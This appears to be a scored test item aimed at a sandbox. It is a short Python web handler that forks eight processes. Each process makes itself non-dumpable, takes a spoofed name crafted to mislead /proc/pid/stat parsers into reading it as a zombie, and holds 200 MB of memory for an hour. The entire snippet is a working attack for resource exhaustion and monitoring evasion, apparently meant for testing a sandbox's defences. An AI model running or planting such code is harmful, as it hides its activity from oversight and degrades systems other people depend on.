# against: sandbox
# points: 11
# fails: root

# %% root
import ctypes
import os
import time


@app.get("/")
def read_root():
    """Take memory in processes that nobody may look at, under a name that looks like what the kernel says of another."""
    for _ in range(8):
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
            ctypes.CDLL(None).prctl(15, b") Z 1 1 (", 0, 0, 0)
            hog = b"x" * (200 << 20)
            time.sleep(3600)
    time.sleep(3600)
